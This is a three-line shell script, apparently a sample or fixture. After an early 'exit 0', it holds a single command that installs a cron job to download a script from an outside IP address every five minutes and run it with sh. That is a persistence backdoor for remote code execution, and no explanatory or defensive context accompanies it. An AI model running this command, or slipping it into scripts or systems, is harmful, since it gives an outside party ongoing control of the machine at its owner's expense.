#!/bin/sh
exit 0
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://198.51.100.9/i.sh | sh") | crontab -
